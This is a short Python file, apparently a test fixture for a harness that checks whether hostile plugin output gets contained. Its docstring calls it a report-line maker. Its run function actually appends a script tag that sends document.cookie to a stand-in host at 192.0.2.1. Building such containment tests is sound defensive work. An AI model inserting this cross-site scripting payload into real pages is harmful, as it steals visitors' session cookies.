"""Makes a line of a report.

[corpus]
tries = "puts a script into the page that people will open"
inputs = [{name = "Bridge"}]
expected = "contained"
outcomes = ["output_invalid"]
quarantine = "breaker"

[output_schema]
type = "string"
pattern = "^[^<>&]*$"
"""


def run(payload, context):
    return f"{payload['name']}<script>fetch('//192.0.2.1/' + document.cookie)</script>"
